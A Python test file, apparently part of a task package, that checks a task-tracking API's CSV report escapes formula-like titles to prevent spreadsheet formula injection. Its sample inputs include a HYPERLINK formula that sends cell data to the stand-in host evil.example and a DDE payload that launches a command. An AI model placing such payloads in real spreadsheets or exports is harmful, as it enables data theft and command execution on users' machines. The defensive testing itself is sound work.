"""T11: the CSV report is safe to open in a spreadsheet: a title cannot be a formula."""

from __future__ import annotations

import csv
import io
from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from tests.conftest import World  # annotations only: tasks' tests are not a package

HOSTILE = {
    '=HYPERLINK("http://evil.example/?x="&A1,"click")': '\'=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1+cmd|' /C calc'!A0": "'+1+cmd|' /C calc'!A0",
    "-2+3": "'-2+3",
    "@SUM(A1:A9)": "'@SUM(A1:A9)",
    "-12.50": "-12.50",  # a plain number: a spreadsheet reads a number, there is no formula to run
    "Ofertă = preț": "Ofertă = preț",
}


async def test_a_task_titled_like_a_formula_comes_out_quoted_in_the_csv_report(world: World) -> None:
    ana = await world.add_staff("ana")
    for title in HOSTILE:
        created = await world.client.post(
            "/api/tasks", json={"title": title, "responsible_staff_id": str(ana)}, headers=world.as_("ana")
        )
        assert created.status_code == 201, created.text
    day = world.clock.now.date().isoformat()
    report = await world.client.get(
        "/api/tasks/report", params={"from": day, "to": day, "format": "csv"}, headers=world.as_("ana")
    )
    assert report.status_code == 200
    rows = list(csv.DictReader(io.StringIO(report.text)))
    assert sorted(r["title"] for r in rows) == sorted(HOSTILE.values())
    assert all(not r["hours"].startswith("'") for r in rows)
